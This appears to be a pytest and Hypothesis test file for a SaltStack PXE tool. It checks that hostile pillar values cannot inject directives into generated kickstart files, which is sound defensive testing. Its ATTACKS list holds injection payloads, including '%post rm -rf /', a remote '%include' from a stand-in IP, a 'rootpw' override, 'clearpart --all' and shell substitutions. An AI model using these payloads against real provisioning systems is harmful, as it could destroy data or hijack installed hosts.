"""No value of pillar becomes a directive of a kickstart; the release's own parser, made anew, is the judge.

A whole profile is taken that says everything, and any of its values is exchanged for hostile text. Pillar refuses it,
or the kickstart has exactly the commands and sections that it had, and the check passes.
"""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from copy import deepcopy
from functools import lru_cache
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pykickstart.parser import KickstartParser
from pykickstart.version import returnClassForVersion

from salt_pxe import pillar
from salt_pxe.cli import sls_file
from salt_pxe.installers.answer_files import answer_files
from salt_pxe.installers.installation import installation
from salt_pxe.installers.kickstart.check.reading import Language, read
from salt_pxe.installers.kickstart.check.verdict import check
from salt_pxe.installers.kickstart.directive import directive
from salt_pxe.installers.kickstart.document import kickstart, rendered
from salt_pxe.installers.refusal import InstallationRefused
from salt_pxe.site.problem import PillarError
from salt_pxe.site.readable import is_printable
from salt_pxe.site.record import Record
from salt_pxe.site.site import Site
from tests import golden

CASE = "kickstart/every-release"
RELEASES = {"rhel7": "RHEL7", "rhel8": "RHEL8", "rocky9": "RHEL9", "almalinux10": "RHEL10", "f42": "F42"}

ATTACKS = [
    "\n%post\nrm -rf /\n%end\n",
    "x\n%end\n\n%post\nrm -rf /",
    "x\n%end\n\n%addon evil\nx",
    "x\n%end\nclearpart --all\n%post\nx",
    "x\nrootpw letmein",
    "\r\n%include http://10.6.6.6/x\r\n",
    "x\x0bclearpart --all",
    "x\x85clearpart --all",
    "x\u2028clearpart --all",
    "x --all --drives=sdb",
    "x,sdb",
    'x" --drives=sdb "',
    "x' --drives=sdb '",
    "x\\",
    "# x",
    "x # y",
    "%include /tmp/x",
    "%end",
    "--plaintext",
    "-x",
    "=",
    "",
    " ",
    "$(reboot)",
    "`reboot`",
    "${x}",
    "{{ x }}",
    "{% raw %}",
    "%%end",
    "\x00",
    "\u200b",
    "\u00a0x",
    "e\u0301",
    "\U0001f4a3",
    "@core --optional",
    "#platform=x",
]

# Attacks as they are known, text of the characters that mean something, and any text.
MEANINGFUL = "ab/-=,.%\"'\\#@:$` \n\t"
HOSTILE = st.one_of(
    st.sampled_from(ATTACKS),
    st.sampled_from(ATTACKS),
    st.text(alphabet=MEANINGFUL, max_size=12),
    st.text(max_size=20),
)


@lru_cache
def whole() -> dict[str, Any]:
    """Return the pillar of the case that says everything."""
    return sls_file.load(golden.HERE / CASE / "pillar.sls")


def values_of(thing: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path of every text in pillar."""
    if isinstance(thing, dict):
        for key, value in thing.items():
            yield from values_of(value, (*path, key))
    elif isinstance(thing, list):
        for index, value in enumerate(thing):
            yield from values_of(value, (*path, index))
    elif isinstance(thing, str):
        yield path


def names_of(thing: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path of every key that pillar's author chooses: users, groups, repositories, add-ons, variables."""
    for key in ("users", "groups", "repos", "addons"):
        for name in thing.get(key, {}):
            yield (*path, key, name)


MORE = {
    "storage": {
        "disklabel": "gpt",
        "reqpart": True,
        "partitions": [
            {
                "mount": "/boot",
                "fstype": "ext4",
                "size": 1024,
                "disk": "sda",
                "label": "boot",
                "fsoptions": "noatime",
            },
            {"volume_group": "vg", "size": 8192, "grow": True},
        ],
        "volume_groups": {
            "vg": {"volumes": {"root": {"mount": "/", "size": 4096, "label": "root", "fsoptions": "noatime"}}}
        },
    },
    "network": [
        {
            "device": "bond0",
            "bond": {"slaves": ["em1", "em2"], "options": "mode=1"},
            "vlan": {"id": 7, "interface_name": "v7"},
        },
        {
            "device": "em3",
            "bootproto": "static",
            "ip": "10.1.0.1",
            "netmask": "255.255.0.0",
            "nameservers": ["10.1.0.2"],
        },
    ],
    "packages": ["tmux"],
    "rootpw": "$6$golden$fedcba98765432100123456789abcdef",
}


def site_with(host: str, path: tuple[Any, ...], text: str, rename: bool) -> Site:
    """Return the site in which a value, or a name, is the hostile text. Raises PillarError where it is refused."""
    given = deepcopy(whole())
    own = given["pxe"]["hosts"][host]
    own.update(deepcopy(MORE))
    given["pxe"]["hosts"] = {host: own}
    scopes = {"profile": given["pxe"]["profiles"][own["profile"]], "host": own}
    at: Any = scopes[path[0]]
    for step in path[1:-1]:
        at = at[step]
    if rename:
        at[text] = at.pop(path[-1])
    else:
        at[path[-1]] = text
    return pillar.parse(given)


class Judge(KickstartParser):
    """pykickstart's own parser, which notes the names of what it meets."""

    def __init__(self, language: str) -> None:
        self.met: list[str] = []
        super().__init__(returnClassForVersion(language)())

    def handleCommand(self, lineno: int, args: list[str]) -> Any:
        self.met.append(args[0])
        return super().handleCommand(lineno, args)

    def _finalize(self, obj: Any) -> None:
        self.met.append(obj.sectionOpen)
        super()._finalize(obj)


def structure(text: str, language: str) -> list[str]:
    """Return the commands and sections that the release's own parser meets, in order."""
    judge = Judge(language)
    judge.readKickstartFromString(text)
    return judge.met


@lru_cache
def unspoilt(host: str) -> list[str]:
    site = site_with(host, ("host", "rootpw"), MORE["rootpw"], False)
    text = kickstart(site, str(site.hosts[host].profile), host, golden.reader(CASE))
    return structure(text, RELEASES[host])


def paths(host: str) -> tuple[list[tuple[Any, ...]], list[tuple[Any, ...]]]:
    own = whole()["pxe"]["hosts"][host]
    profile = whole()["pxe"]["profiles"][own["profile"]]
    values = [("profile", *path) for path in values_of(profile)]
    values += [("host", *path) for path in values_of({**own, **MORE})]
    return values, [("profile", *path) for path in names_of(profile)]


@pytest.mark.parametrize("host", RELEASES)
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_no_value_becomes_a_directive(host: str, data: st.DataObject) -> None:
    """Whatever text stands in any value or name, pillar refuses it or the kickstart says exactly what was meant."""
    values, names = paths(host)
    path = data.draw(st.sampled_from([*values, *names]))
    text = data.draw(HOSTILE)
    try:
        site = site_with(host, path, text, path in names)
    except PillarError:
        return
    profile, armed = str(site.hosts[host].profile), {host: "CHG1"}
    reader = golden.reader(CASE)
    try:
        finished = kickstart(site, profile, host, reader)
    except InstallationRefused:
        return
    assert structure(finished, RELEASES[host]) == unspoilt(host)
    texts, problems = answer_files(site, armed, reader)
    assert problems == []
    assert texts == {host: {"": finished}}


def texts_in(thing: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path of every text in a value behind the door."""
    if isinstance(thing, Record):
        thing = dict(thing)
    if isinstance(thing, str):
        yield path
    elif isinstance(thing, dict):
        for key, value in thing.items():
            yield from texts_in(value, (*path, key))
    elif isinstance(thing, tuple):
        for index, value in enumerate(thing):
            yield from texts_in(value, (*path, index))


def replaced(thing: Any, path: tuple[Any, ...], text: str) -> Any:
    """Return a value with a text in it that no schema has seen."""
    if not path:
        return text
    first, rest = path[0], path[1:]
    if isinstance(thing, Record):
        return thing.model_copy(update={first: replaced(getattr(thing, first), rest, text)})
    if isinstance(thing, dict):
        return {**thing, first: replaced(thing[first], rest, text)}
    return tuple(replaced(item, rest, text) if index == first else item for index, item in enumerate(thing))


CHOICES = {
    "installer",
    "release",
    "repo",
    "mode",
    "finish",
    "firstboot",
    "selinux",
    "autopart",
    "bootproto",
    "ipv6",
    "source",
}


@pytest.mark.parametrize("host", ["rhel7", "rocky9", "f42"])
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_the_check_sees_what_the_door_would_have_let_in(host: str, data: st.DataObject) -> None:
    """Were hostile text to pass the door, it would stay a value, or the check would refuse the kickstart."""
    site = site_with(host, ("host", "rootpw"), MORE["rootpw"], False)
    name = str(site.hosts[host].profile)
    paths = [("profiles", name, *path) for path in texts_in(site.profiles[name])]
    paths += [("hosts", host, *path) for path in texts_in(site.hosts[host])]
    paths = [path for path in paths if path[-1] not in CHOICES]
    many_lines = [path for path in paths if path[-1] in ("script", "body")]
    path = data.draw(st.sampled_from(paths) | st.sampled_from(many_lines))
    text = data.draw(HOSTILE)
    spoilt = replaced(site, path, text)
    reader = golden.reader(CASE)
    try:
        what = installation(spoilt, str(spoilt.hosts[host].profile), host)
        finished = rendered(what, reader)
    except (ValueError, KeyError):
        return
    try:
        same = structure(finished, RELEASES[host]) == unspoilt(host)
    except Exception:
        same = False
    if not same:
        assert check(what, finished, reader)


@settings(max_examples=500)
@given(
    words=st.lists(HOSTILE, max_size=3),
    options=st.lists(HOSTILE, max_size=3),
    several=st.lists(st.text(alphabet=MEANINGFUL, min_size=1), max_size=2),
)
def test_a_line_is_split_into_what_it_was_made_of(
    words: list[str], options: list[str], several: list[str]
) -> None:
    """Any printable text is one word of a kickstart line; what is not printable is refused."""
    named = {f"option_{index}": option for index, option in enumerate(options)}
    try:
        line = directive("command", *words, **named, several=several)
    except ValueError:
        assert not is_printable("".join([*words, *options, *several]))
        return
    expected = ["command", *words]
    expected += [f"--option-{index}={option}" for index, option in enumerate(options) if option]
    expected += [f"--several={','.join(several)}"] if several else []
    assert is_printable(line)
    assert shlex.split(line, comments=True) == expected


SCRIPT = st.lists(
    st.one_of(
        HOSTILE,
        st.sampled_from(
            [
                "echo",
                "%end",
                " %end",
                "%end #",
                "%post",
                "\t%pre --log=x",
                "%packages",
                "%ksappend x",
                "%macro",
                "%%end",
            ]
        ),
    ),
    min_size=1,
    max_size=5,
).map("\n".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(script=SCRIPT, kind=st.sampled_from(["pre", "pre_install", "post", "onerror"]))
def test_no_script_leaves_its_section(script: str, kind: str) -> None:
    """Whatever a script says, pillar refuses it or the parser gives it back whole as the body of one section."""
    given = deepcopy(whole())
    given["pxe"]["hosts"] = {"rocky9": given["pxe"]["hosts"]["rocky9"]}
    profile = given["pxe"]["profiles"]["all-Rocky9"]
    for name in ("pre", "pre_install", "post", "onerror", "addons"):
        profile.pop(name)
    profile[kind] = [{"script": script}]
    try:
        site = pillar.parse(given)
    except PillarError:
        return
    text = kickstart(site, "all-Rocky9", "rocky9", golden.reader(CASE))
    judge = Judge("RHEL9")
    judge.readKickstartFromString(text)
    (only,) = judge.handler.scripts
    assert only.script.rstrip("\n") == script.rstrip("\n")
    assert answer_files(site, {"rocky9": "x"})[1] == []


@settings(max_examples=200, deadline=None)
@given(lines=st.lists(st.integers(min_value=0, max_value=10_000), max_size=30), cut=st.integers(0, 400))
def test_a_used_parser_reads_as_a_new_one(lines: list[int], cut: int) -> None:
    """What was read before, good or torn, changes nothing in what is read next."""
    good = golden.texts(CASE)["rocky9.ks"]
    rows = good.splitlines(keepends=True)
    fresh = Language("RHEL9").read(good)
    torn = "".join(rows[number % len(rows)] for number in lines) + good[:cut]
    assume(torn != good)
    read(torn, "RHEL9")
    assert read(good, "RHEL9") == fresh
